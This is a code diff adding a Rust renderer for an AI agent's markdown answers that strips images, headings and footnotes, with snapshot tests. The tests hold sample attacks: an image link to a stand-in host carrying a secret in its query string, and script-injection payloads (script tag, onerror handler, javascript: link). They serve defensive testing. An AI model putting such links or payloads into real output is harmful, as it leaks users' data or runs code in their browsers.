@@ -1,0 +1,73 @@
+//! What an agent answers, as a page shows it: less than an article may have.
+
+use std::collections::HashMap;
+
+use pulldown_cmark::{Event, Tag, TagEnd};
+
+use super::{
+    bound::{self, Bound},
+    events, fence, shape, with_plain_line_ends,
+    words::Words,
+    writer,
+};
+
+/// Renders an answer. It has no images, which would tell other hosts who reads it, and which whoever writes a source of the agent could
+/// have put there. It has no headings and no footnotes either: several answers stand on one page, and their ids would meet.
+///
+/// Not for the runtime's threads, as [`super::render`].
+///
+/// # Errors
+/// The text goes beyond a [`Bound`].
+pub fn answer(body: &str, words: &Words) -> Result<String, Bound> {
+    bound::check_length(body)?;
+    let body = with_plain_line_ends(body);
+    shape::check(&body)?;
+    let plainer = events::read(&body)?.main.into_iter().flat_map(plainer).collect();
+    Ok(fence::cleaned(&writer::write(plainer, HashMap::new(), words)?.html))
+}
+
+/// What stands for an event: of an image its description, of a heading a paragraph in bold, of a footnote nothing.
+fn plainer(event: Event<'_>) -> Vec<Event<'_>> {
+    match event {
+        Event::Start(Tag::Heading { .. }) => vec![Event::Start(Tag::Paragraph), Event::Start(Tag::Strong)],
+        Event::End(TagEnd::Heading(_)) => vec![Event::End(TagEnd::Strong), Event::End(TagEnd::Paragraph)],
+        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) | Event::FootnoteReference(_) => Vec::new(),
+        other => vec![other],
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rendered(body: &str) -> String {
+        answer(body, &Words::ENGLISH).expect("it is within the bounds")
+    }
+
+    #[test]
+    fn an_answer_is_rendered_as_an_article_is() {
+        insta::assert_snapshot!(rendered("Open *Settings*:\n\n1. [Plan](/articles/7)\n2. `save`"), @r#"
+        <p>Open <em>Settings</em>:</p>
+        <ol>
+        <li><a href="/articles/7">Plan</a></li>
+        <li><code>save</code></li>
+        </ol>
+        "#);
+    }
+
+    #[test]
+    fn nothing_in_it_has_an_id_or_is_loaded_from_elsewhere() {
+        let html = rendered("# Setup\n\n![a chart](https://evil.test/?q=secret)[^1]\n\n## Setup\n\n[^1]: A note.");
+        insta::assert_snapshot!(html, @"
+        <p><strong>Setup</strong></p>
+        <p>a chart</p>
+        <p><strong>Setup</strong></p>
+        ");
+    }
+
+    #[test]
+    fn nothing_in_it_runs() {
+        let html = rendered("<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> [a](javascript:alert(1))");
+        insta::assert_snapshot!(html, @"<p> a</p>");
+    }
+}
